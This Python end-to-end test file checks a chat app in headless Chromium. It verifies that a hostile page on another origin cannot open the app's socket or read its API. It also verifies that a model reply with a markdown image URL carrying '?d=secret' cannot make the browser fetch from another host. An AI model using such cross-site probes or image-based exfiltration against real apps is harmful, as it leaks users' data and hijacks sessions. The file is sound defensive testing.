"""End to end in headless Chromium: the app works on its own origins, other pages cannot drive it,
and model output cannot make the browser fetch from another host."""

from __future__ import annotations

import base64
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Browser

from tests.chat_page import ChatPage
from tests.harness import clean_env
from tests.scripted_server import MODEL_ID, Script, serve

pytestmark = pytest.mark.e2e

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
# Records every Content-Security-Policy violation, so a test sees what the policy blocked.
# Chainlit 2.12's page links KaTeX's stylesheet from a CDN; the app serves it itself (public/katex/)
# and its policy refuses the CDN, so that one refusal is expected, not an attack.
KATEX_CDN = "https://cdn.jsdelivr.net/npm/katex@"
RECORD_CSP = f"""
window.__csp = [];
document.addEventListener('securitypolicyviolation', (e) => {{
    if (!e.blockedURI.startsWith('{KATEX_CDN}')) window.__csp.push(e.effectiveDirective + ' ' + e.blockedURI);
}});
"""
# A page of another site that tries to open the app's socket and read its API.
PROBE = """<!doctype html><script>
window.probe = (async (app) => {
  const ws = await new Promise((resolve) => {
    const s = new WebSocket(app.replace('http', 'ws') + '/ws/socket.io/?EIO=4&transport=websocket');
    s.onmessage = (e) => { resolve('connected: ' + e.data.slice(0, 20)); s.close(); };
    s.onerror = () => resolve('refused');
  });
  let api;
  try {
    const r = await fetch(app + '/auth/config', {credentials: 'include'});
    api = 'read ' + r.status;
  } catch (e) { api = 'refused'; }
  return {ws, api};
});
</script>"""


@dataclass
class OtherSite:
    """A web server on another loopback port: an attacker's page and an image, requests counted."""

    url: str = ""
    paths: list[str] = field(default_factory=list)


@contextmanager
def other_site() -> Iterator[OtherSite]:
    """Serve /probe.html and /pixel.png on a free 127.0.0.1 port, recording every request path."""
    site = OtherSite()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.paths.append(self.path)
            body, kind = (PROBE.encode(), "text/html") if self.path == "/probe.html" else (PIXEL, "image/png")
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    site.url = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        yield site
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def test_ui_when_opened_on_own_origins_then_chats_and_other_sites_cannot_drive_it(
    browser: Browser, scripted_app: Callable[..., str]
) -> None:
    url = scripted_app("--show-stats")  # its footer is a custom element
    for base in (url, url.replace("127.0.0.1", "localhost")):
        chat = ChatPage.open(browser, base, init_script=RECORD_CSP)
        try:
            chat.send("#script tokens=5")
            chat.wait_turns()
            assert chat.wait_text("w00004").split() == ["w00000", "w00001", "w00002", "w00003", "w00004"]
            chat.page.locator(".smart-agent-footer").first.wait_for(timeout=30_000)  # custom element
            assert chat.page.evaluate("window.__csp") == []
        finally:
            chat.close()
    with other_site() as site:
        page = browser.new_page()
        try:
            page.goto(f"{site.url}/probe.html", timeout=30_000)
            result = page.evaluate("(app) => window.probe(app)", url)
        finally:
            page.close()
    assert result == {"ws": "refused", "api": "refused"}


def test_reply_with_remote_image_when_rendered_then_browser_never_fetches_it(
    browser: Browser, start_app: Callable[..., str]
) -> None:
    with other_site() as site:
        image = f"{site.url}/pixel.png?d=secret"
        reply = f"Here is the chart: ![x]({image}) and END."
        with serve(Script(text=reply)) as model:
            env = clean_env(OPENAI_API_KEY="k", SMART_AGENT_SHOW_STATS="1")  # its footer: a custom element
            url = start_app("--base-url", model.url, "--model", MODEL_ID, env=env)
            chat = ChatPage.open(browser, url, init_script=RECORD_CSP)
            try:
                chat.send("show me the chart")
                chat.wait_turns()
                assert "Here is the chart:" in chat.wait_text("END.")
                chat.page.locator(".smart-agent-footer").first.wait_for(timeout=30_000)  # custom element
                # The browser is done with the image once it is `complete`: loaded or refused.
                chat.page.wait_for_function(
                    "() => [...document.querySelectorAll('img[alt=\"x\"]')].some((i) => i.complete)",
                    timeout=30_000,
                )
                violations = chat.page.evaluate("window.__csp")
            finally:
                chat.close()
        assert site.paths == []
        assert violations and all(v == f"img-src {image}" for v in violations), violations
